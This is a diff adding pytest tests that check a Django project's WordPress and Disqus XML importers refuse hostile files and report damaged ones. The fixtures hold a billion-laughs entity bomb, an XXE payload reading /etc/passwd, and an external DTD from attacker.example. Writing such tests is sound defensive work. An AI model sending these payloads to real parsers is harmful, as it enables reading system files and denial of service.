@@ -1,0 +1,85 @@
+"""Hostile and damaged files: refused or survived, with a message to act on."""
+
+import pytest
+from django.core.management import CommandError, call_command
+
+from masthead.discussion.models import Comment
+from masthead.importers.disqus import import_disqus
+from masthead.importers.wordpress import import_wordpress
+from masthead.importers.xmlstream import ImportFileError
+from masthead.publishing.models import ArticlePage
+
+pytestmark = pytest.mark.django_db
+
+BILLION_LAUGHS = """<?xml version="1.0"?>
+<!DOCTYPE rss [
+ <!ENTITY lol "lol">
+ <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+]>
+<rss><channel><item><title>&lol3;</title><wp:post_id>1</wp:post_id></item></channel></rss>
+"""
+EXTERNAL_ENTITY = """<?xml version="1.0"?>
+<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
+<rss><channel><item><title>&secret;</title></item></channel></rss>
+"""
+EXTERNAL_DTD = """<?xml version="1.0"?>
+<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">
+<rss><channel></channel></rss>
+"""
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (BILLION_LAUGHS, "declares XML entities; refusing to expand them"),
+        (EXTERNAL_ENTITY, "declares XML entities; refusing to expand them"),
+        (EXTERNAL_DTD, "refers to an external DTD; refusing to load it"),
+    ],
+)
+def test_entity_and_dtd_files_are_refused_and_nothing_is_imported(
+    home, tmp_path, content, message
+):
+    path = tmp_path / "hostile.xml"
+    path.write_text(content)
+
+    with pytest.raises(CommandError, match=message):
+        call_command("import_wordpress", str(path))
+    with pytest.raises(ImportFileError, match=message):
+        import_disqus(path=path)
+    assert not ArticlePage.objects.exists()
+
+
+def test_truncated_export_imports_whole_records_and_reports_the_damage(
+    home, corpora, tmp_path
+):
+    whole = (corpora / "wordpress" / "isso_wordpress.xml").read_bytes()
+    cut_inside_fourth_comment = whole.index(b"Yet another reply") - 40
+    path = tmp_path / "truncated.xml"
+    path.write_bytes(whole[:cut_inside_fourth_comment])
+
+    report = import_wordpress(path=path)
+
+    assert "not well-formed XML" in report.file_error
+    assert any("comment is damaged" in str(p) for p in report.problems)
+    assert set(Comment.objects.values_list("text", flat=True)) == {
+        "Erster!1", "Zweiter.", "Drölfter!",
+    }  # fmt: skip
+
+
+def test_malformed_wordpress_file_fails_with_its_line(home, corpora):
+    path = corpora / "wordpress" / "wordpress-importer_malformed.xml"
+
+    with pytest.raises(CommandError, match=r"not well-formed XML \(line 90, column 11"):
+        call_command("import_wordpress", str(path))
+    assert not ArticlePage.objects.exists()
+
+
+def test_dry_run_reports_counts_and_saves_nothing(home, corpora):
+    path = corpora / "wordpress" / "isso_wordpress.xml"
+
+    report = import_wordpress(path=path, dry_run=True)
+
+    assert report.counts["comments created"] == 8
+    assert not ArticlePage.objects.exists()
+    assert not Comment.objects.exists()
